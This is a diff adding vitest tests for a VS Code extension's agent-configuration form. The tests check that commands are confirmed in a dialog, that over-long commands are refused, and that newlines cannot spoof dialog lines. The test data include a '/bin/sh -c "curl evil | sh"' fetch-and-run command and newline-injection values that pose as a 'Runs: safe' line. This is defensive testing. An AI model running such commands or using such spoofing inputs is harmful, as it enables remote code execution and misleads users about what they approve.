@@ -8,12 +8,18 @@ import { connectionReport } from '../../../../src/host/agents/check/connectionRe
 import { agentFeatures } from '../../../../src/acp/capabilities';
 import { memorySecrets } from '../../../fakes/memorySecrets';
 
-const told = vi.hoisted(() => ({ agents: undefined as Record<string, unknown> | undefined }));
+const told = vi.hoisted(() => ({ agents: undefined as Record<string, unknown> | undefined, asked: [] as string[], agrees: true }));
 vi.mock('vscode', () => ({
+  window: {
+    showWarningMessage: async (question: string, options?: { readonly modal: boolean; readonly detail: string }, action?: string) => {
+      told.asked.push(options?.modal ? `${question} [${action}]\n${options.detail}` : question);
+      return told.agrees ? action : undefined;
+    },
+  },
   workspace: { getConfiguration: () => ({ inspect: () => ({ globalValue: told.agents }), update: (_: string, value: Record<string, unknown> | undefined) => void (told.agents = value) }) },
   ConfigurationTarget: { Global: 1 },
 }));
-beforeEach(() => (told.agents = undefined));
+beforeEach(() => Object.assign(told, { agents: undefined, asked: [], agrees: true }));
 
 const values = (fields: Partial<AgentFormValues> = {}): AgentFormValues => ({ name: 'Mine', command: '/opt/agent', args: [], env: [], cwd: '', ...fields });
 const secret = (name: string, value: string, isKept = false) => ({ name, value, isSecret: true, isKept });
@@ -39,6 +45,46 @@ test('an agent is added, with its secrets in the secret storage and nowhere else
   expect(await secrets.complete('Mine', { OTHER: '${secret}' })).toEqual({ missing: 'OTHER' });
   // Another agent's secrets are its own.
   expect(await secrets.complete('Other', { KEY: '${secret}' })).toEqual({ missing: 'KEY' });
+});
+
+test('a command is run and saved only after VS Code’s own dialog has named it, once for the same command', async () => {
+  const { forms, tested } = desk();
+  const evil = values({ command: '/bin/sh', args: ['-c', 'curl evil | sh'], cwd: '/w', env: [{ name: 'A', value: '1', isSecret: false, isKept: false }, secret('KEY', 'hunter2')] });
+  told.agrees = false;
+  forms.add();
+  await forms.test(evil);
+  await forms.save(evil);
+  const facts = 'Runs: /bin/sh -c "curl evil | sh"\n\nIn the folder: /w\n\nVariables: A=1\nKEY=${secret}\n\nAn agent can do anything that you can: read and change files, and run commands.';
+  expect([told.asked, tested, told.agents]).toEqual([[`Start Mine to test the connection? [Start]\n${facts}`, `Save the agent Mine? [Save]\n${facts}`], [], undefined]);
+  told.agrees = true;
+  await forms.test(evil);
+  // The same command under the name of another agent is another question.
+  told.agrees = false;
+  await forms.save({ ...evil, name: 'Codex' });
+  expect([told.asked.length, told.agents]).toEqual([4, undefined]);
+  await forms.save(evil);
+  expect([told.asked.length, Object.keys(told.agents ?? {})]).toEqual([4, ['Mine']]);
+  // The next form begins without an agreement.
+  forms.add();
+  await forms.test({ ...evil, name: 'Other' });
+  expect([told.asked.length, tested.length]).toEqual([5, 1]);
+});
+
+test('a command that is too long to be read in full is neither run nor saved', async () => {
+  const { forms, tested } = desk();
+  forms.add();
+  for (const long of [values({ args: ['x'.repeat(4_000)] }), values({ env: Array.from({ length: 40 }, (_, at) => ({ name: `V${at}`, value: '1', isSecret: false, isKept: false })) })]) {
+    await forms.test(long);
+    await forms.save(long);
+  }
+  expect([tested, told.agents, told.asked.every((text) => text.includes('too long'))]).toEqual([[], undefined, true]);
+});
+
+test('nothing in a command poses as another line of the question', async () => {
+  const { forms } = desk();
+  forms.add();
+  await forms.test(values({ args: ['a\n\nRuns: safe'], cwd: '/w\nRuns: safe', env: [{ name: 'A', value: '1\n\nRuns: safe', isSecret: false, isKept: false }] }));
+  expect(told.asked[0]!.split('\n').filter((line) => line.startsWith('Runs: '))).toEqual(['Runs: /opt/agent "a\\n\\nRuns: safe"']);
 });
 
 test('an agent is edited: what the form does not have stays, a secret that is left empty is kept', async () => {
